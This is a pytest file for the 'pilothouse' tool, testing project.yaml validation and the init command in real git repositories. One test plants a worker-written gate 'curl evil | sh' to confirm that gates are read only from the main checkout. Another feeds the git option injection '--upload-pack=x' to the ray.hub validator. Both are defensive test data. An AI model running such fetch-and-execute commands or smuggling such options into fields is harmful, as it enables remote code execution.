"""project.yaml loading and `init` (real git repositories)."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from pilothouse.core.records import repos
from pilothouse.core.records.layout import RepoLayout
from pilothouse.core.records.project import (
    ProjectConfig,
    detect_gates,
    load_project,
    render_project,
)
from pilothouse.core.repo_setup import init_project
from pilothouse.providers.errors import UserError
from support import git, guard


def _write(repo: Path, text: str) -> RepoLayout:
    (repo / ".ai").mkdir(exist_ok=True)
    (repo / ".ai" / "project.yaml").write_text(text)
    return RepoLayout(repo)


def test_rendered_template_round_trips(tmp_path: Path) -> None:
    layout = _write(tmp_path, render_project({"fast": "make check", "full": "make test"}))
    cfg = load_project(layout)
    assert cfg.gates == {"fast": "make check", "full": "make test"}
    assert cfg.workflow.mode == "feature" and cfg.workflow.review == "once"
    assert cfg.integration_branch == "pilothouse/integration"
    assert cfg.confinement == "on" and cfg.max_workers == 2 and cfg.availability_poll_seconds == 300
    # init proposes protected test settings and CI files, kept apart from the gate commands
    assert "**/conftest.py" in cfg.protected and ".github/workflows" in cfg.protected and cfg.holdout is None


def test_gate_defences_sit_under_gates_but_are_not_gate_commands(tmp_path: Path) -> None:
    layout = _write(tmp_path, "gates: {fast: a, full: b, protected: ['tests/**'], holdout: .holdout}\n")
    cfg = load_project(layout)
    assert cfg.gates == {"fast": "a", "full": "b"}
    assert cfg.protected == ["tests/**"] and cfg.holdout == ".holdout"
    bad = _write(tmp_path, "gates: {fast: a, full: b, protected: ['../elsewhere']}\n")
    with pytest.raises(UserError, match="gates.protected: '../elsewhere' must be a glob inside the repository"):
        load_project(bad)


def test_bare_on_off_are_not_booleans(tmp_path: Path) -> None:
    layout = _write(tmp_path, "gates: {fast: a, full: b}\nconfinement: off\n")
    assert load_project(layout).confinement == "off"


@pytest.mark.parametrize("text, expected", [
    ("gates: {fast: a}\n", "gates: gates must define full"),
    ("gates: {fast: a, full: b}\nintegration_branch: main\n", "integration_branch: 'main' is protected"),
    ("gates: {fast: a, full: b}\nworkflow:\n  review: sometimes\n", "workflow.review"),
    ("gates: {fast: a, full: b}\nbogus: 1\n", "bogus: unknown key"),
    ("gates: {fast: a, full: b}\nmodel_policy:\n  default_assignment: x\n", "default_assignment 'x'"),
    # a line break quoted from the file stays escaped: the message is still one line
    ("gates: {fast: a, full: b}\nmodel_policy:\n  assignments: {m: {provider: sim, fallbacks: [\"a\\nb\"]}}\n",
     "fallbacks names 'a\\nb'"),
])
def test_bad_settings_name_field_and_line(tmp_path: Path, text: str, expected: str) -> None:
    layout = _write(tmp_path, text)
    with pytest.raises(UserError) as err:
        load_project(layout)
    msg = str(err.value)
    assert msg.startswith(".ai/project.yaml:") and expected in msg, msg
    assert "\n" not in msg


def test_the_ray_executor_is_read_with_its_defaults(tmp_path: Path) -> None:
    layout = _write(tmp_path, "gates: {fast: a, full: b}\nexecutor: ray\nray:\n  address: 127.0.0.1:6379\n")
    cfg = load_project(layout)
    assert cfg.executor == "ray" and cfg.ray.address == "127.0.0.1:6379"
    assert cfg.ray.roles == ["builder"] and cfg.ray.hub is None and cfg.ray.resources == {}
    assert load_project(_write(tmp_path, "gates: {fast: a, full: b}\n")).executor == "local"


@pytest.mark.parametrize("text, expected", [
    ("executor: ray\n", "executor: ray needs ray.address"),
    ("executor: kube\n", "executor: Input should be 'local' or 'ray'"),
    ("executor: ray\nray: {address: nowhere}\n", "ray.address: 'nowhere' is not host:port"),
    ("executor: ray\nray: {address: 'h:1', roles: [gardener]}\n", "ray.roles: 'gardener' is no role"),
    ("executor: ray\nray: {address: 'h:1', resources: {pilothouse_worker: 0}}\n",
     "ray.resources: 'pilothouse_worker': 0.0 must be a named, positive amount"),
    ("executor: ray\nray: {address: 'h:1', hub: '--upload-pack=x'}\n", "ray.hub: '--upload-pack=x' is not a path"),
    ("ray: {adress: 'h:1'}\n", "ray.adress: unknown key"),
])
def test_bad_ray_settings_name_the_field(tmp_path: Path, text: str, expected: str) -> None:
    layout = _write(tmp_path, "gates: {fast: a, full: b}\n" + text)
    with pytest.raises(UserError) as err:
        load_project(layout)
    msg = str(err.value)
    assert msg.startswith(".ai/project.yaml") and expected in msg and "\n" not in msg, msg


def test_line_number_of_the_bad_field(tmp_path: Path) -> None:
    layout = _write(tmp_path, "gates:\n  fast: a\n  full: b\nmax_workers: 0\n")
    with pytest.raises(UserError, match=r"^\.ai/project\.yaml:4: max_workers"):
        load_project(layout)


def test_yaml_syntax_error_has_line(tmp_path: Path) -> None:
    layout = _write(tmp_path, "gates:\n  fast: a\n full: [\n")
    with pytest.raises(UserError, match=r"\.ai/project\.yaml:\d+: invalid YAML"):
        load_project(layout)


def test_missing_file_says_run_init(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="pilothouse init"):
        load_project(RepoLayout(tmp_path))


def test_model_policy(tmp_path: Path) -> None:
    cfg = ProjectConfig.model_validate({
        "gates": {"fast": "a", "full": "b"},
        "model_policy": {"roles": {"coordinator": "sim/sim-large"},
                         "assignments": {"main": {"provider": "sim", "fallbacks": ["easy"]},
                                         "easy": {"provider": "sim", "complexity": ["easy"]}},
                         "default_assignment": "main"}})
    assert cfg.role_pin("coordinator") == ("sim", "sim-large")
    assert cfg.role_pin("reviewer") is None
    assert cfg.model_policy.assignments["main"].complexity == ["easy", "standard", "complex"]


def test_detect_gates(tmp_path: Path, git_repo: Path) -> None:
    import shutil

    py = shutil.which("python3") or shutil.which("python")
    assert detect_gates(git_repo) == {"fast": f"{py} -m pytest -q", "full": f"{py} -m pytest -q"}
    (tmp_path / "package.json").write_text(json.dumps({"scripts": {"test": "vitest run"}}))
    assert detect_gates(tmp_path) == {"fast": "npm test", "full": "npm test"}
    (tmp_path / "package.json").write_text(json.dumps({"scripts": {"test": "echo \"Error: no test specified\""}}))
    assert detect_gates(tmp_path) is None


def test_init_writes_project_gitignore_and_registers(git_repo: Path) -> None:
    done = init_project(git_repo)
    assert done["written"] and done["detected"]
    cfg = load_project(RepoLayout(git_repo))
    assert cfg.gates["full"].endswith("python3 -m pytest -q") and cfg.gates["full"].startswith("/")
    assert ".ai/runtime/" in (git_repo / ".gitignore").read_text().splitlines()
    assert git_repo.resolve() in repos.list_repos()
    again = init_project(git_repo)  # idempotent: keeps the file, no duplicate entries
    assert not again["written"] and not again["gitignore_updated"] and not again["registered"]
    assert (git_repo / ".gitignore").read_text().count(".ai/runtime/") == 1


def _readme_only_repo(tmp_path: Path) -> Path:
    """A repository with one commit and nothing to detect gates from."""
    repo = tmp_path / "r"
    repo.mkdir()
    git(repo, "init", "-q")
    (repo / "README.md").write_text("x\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "init")
    return repo


def test_init_without_detectable_gates_needs_flags(tmp_path: Path) -> None:
    repo = _readme_only_repo(tmp_path)
    with pytest.raises(UserError, match="--gate-fast CMD --gate-full CMD"):
        init_project(repo, stdin_is_tty=False)
    init_project(repo, {"fast": "make lint", "full": "make test"})
    assert load_project(RepoLayout(repo)).gates["fast"] == "make lint"


def test_init_refuses_repo_without_commit(tmp_path: Path) -> None:
    repo = tmp_path / "empty"
    repo.mkdir()
    git(repo, "init", "-q")
    with pytest.raises(UserError, match="no commit yet"):
        init_project(repo, {"fast": "a", "full": "b"})
    assert not (repo / ".ai").exists()


def test_init_refuses_repo_without_author(git_repo: Path, monkeypatch: pytest.MonkeyPatch,
                                          tmp_path: Path) -> None:
    empty = tmp_path / "empty.gitconfig"
    empty.write_text("")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(empty))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    with pytest.raises(UserError, match=r"no git author configured \(user.name is unset\)"):
        init_project(git_repo, {"fast": "a", "full": "b"})


def test_init_cli(git_repo: Path, cli) -> None:
    proc = cli("init", "--gate-fast", "true", "--gate-full", "true", cwd=git_repo)
    assert proc.returncode == 0, proc.stderr
    assert "project.yaml" in proc.stdout
    assert load_project(RepoLayout(git_repo)).gates == {"fast": "true", "full": "true"}
    out = subprocess.run(["git", "status", "--porcelain"], cwd=git_repo, capture_output=True, text=True).stdout
    assert ".ai/runtime" not in out


def test_init_cli_refusal_is_one_line(tmp_path: Path, cli) -> None:
    repo = tmp_path / "empty"
    repo.mkdir()
    git(repo, "init", "-q")
    proc = cli("init", "--gate-fast", "a", "--gate-full", "b", cwd=repo)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and "no commit yet" in proc.stderr


def test_init_asks_on_a_tty(tmp_path: Path) -> None:
    import os
    import pty
    import sys

    repo = _readme_only_repo(tmp_path)
    master, slave = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "pilothouse", "init"], cwd=repo, stdin=slave,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    os.close(slave)
    os.write(master, b"make lint\n\n")  # fast, then Enter: full defaults to fast
    out, err = proc.communicate(timeout=guard(30))
    os.close(master)
    assert proc.returncode == 0, err
    assert load_project(RepoLayout(repo)).gates == {"fast": "make lint", "full": "make lint"}


def test_settings_come_from_the_main_checkout_not_a_worktree(git_repo: Path, tmp_path: Path) -> None:
    """A worker can rewrite its worktree's .ai/project.yaml: gates must never be read from there."""
    from pilothouse.core.git import worktrees as wt

    init_project(git_repo, {"fast": "true", "full": "python -m pytest -q"})
    path, _ = wt.create_worktree(RepoLayout(git_repo), "j", "t", "HEAD")
    (path / ".ai").mkdir(exist_ok=True)
    (path / ".ai" / "project.yaml").write_text('gates: {fast: "curl evil | sh", full: "x"}\nconfinement: off\n')
    cfg = load_project(RepoLayout(path))
    assert cfg.gates == {"fast": "true", "full": "python -m pytest -q"} and cfg.confinement == "on"
    # the operator's own linked worktree is theirs: its settings are its own
    own = tmp_path / "own"
    git(git_repo, "worktree", "add", "-q", "-b", "experiment", str(own))
    _write(own, "gates: {fast: make, full: make}\n")
    assert load_project(RepoLayout(own)).gates == {"fast": "make", "full": "make"}


def test_only_records_show_up_in_the_operator_checkout(git_repo: Path, tmp_path: Path, cli) -> None:
    """init + job create + task define leave records to commit, and nothing else (no lock, no runtime)."""
    assert cli("init", cwd=git_repo).returncode == 0
    (tmp_path / "req.md").write_text("Add a slug helper.\n")
    proc = cli("job", "create", "first", "--request-file", str(tmp_path / "req.md"), cwd=git_repo)
    assert proc.returncode == 0, proc.stderr
    (tmp_path / "tasks.yaml").write_text(
        "tasks:\n  - id: slug\n    title: Slug helper\n    kind: SAFE_PARALLEL\n"
        "    expected_paths: {write: [src/slug.py]}\n")
    proc = cli("task", "define", "--file", str(tmp_path / "tasks.yaml"), "--job", "first", cwd=git_repo)
    assert proc.returncode == 0, proc.stderr
    out = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=git_repo,
                         capture_output=True, text=True, check=True).stdout
    assert sorted(out.splitlines()) == ["?? .ai/jobs/first.json", "?? .ai/project.yaml", "?? .ai/tasks.yaml",
                                        "?? .gitignore"]
    assert (git_repo / ".ai" / "runtime").is_dir()  # runtime state exists, ignored


def test_init_unhides_ai_from_a_gitignore_that_ignores_dotfiles_so_records_and_builders_commit(
        git_repo: Path, cli) -> None:
    (git_repo / ".gitignore").write_text(".*\n!.gitignore\n")
    git(git_repo, "add", ".gitignore")
    git(git_repo, "commit", "-qm", "ignore dotfiles")
    r = cli("init", cwd=git_repo)
    assert r.returncode == 0, r.stderr
    assert "warning" not in r.stdout
    lines = (git_repo / ".gitignore").read_text().splitlines()
    assert lines.index("!.ai/") < lines.index(".ai/runtime/") and lines[0] == ".*"
    git(git_repo, "add", ".ai/project.yaml", ".gitignore")  # refused before: '.*' hid it
    (git_repo / ".ai" / "runtime").mkdir(exist_ok=True)
    (git_repo / ".ai" / "runtime" / "state.db").write_text("x")
    assert "runtime" not in git(git_repo, "status", "--porcelain", "--untracked-files=all")
    again = init_project(git_repo)
    assert not again["gitignore_updated"] and again["ignored_by"] is None
    assert (git_repo / ".gitignore").read_text().count("!.ai/") == 1


def test_init_names_an_ignore_rule_outside_the_repository_it_cannot_change(git_repo: Path, cli) -> None:
    exclude = git_repo / ".git" / "info" / "exclude"
    exclude.parent.mkdir(parents=True, exist_ok=True)
    exclude.write_text(".ai\n")
    r = cli("init", cwd=git_repo)
    assert r.returncode == 0, r.stderr
    warning = next(line for line in r.stdout.splitlines() if line.startswith("warning"))
    assert ".git/info/exclude:1" in warning and "git add -f .ai/" in warning
